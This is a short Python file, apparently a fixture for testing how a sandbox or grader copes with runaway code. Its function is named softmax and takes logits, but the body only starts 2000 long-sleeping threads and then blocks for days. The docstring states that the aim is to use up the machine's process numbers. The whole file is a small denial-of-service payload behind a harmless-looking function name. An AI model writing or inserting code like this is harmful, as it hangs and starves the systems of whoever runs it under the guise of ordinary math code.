"""Starts threads until the machine has no process numbers left, or two thousand."""

import threading
import time

threading.stack_size(2**15)


def softmax(logits, dim=-1):
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(10**6,)).start()
    time.sleep(10**6)
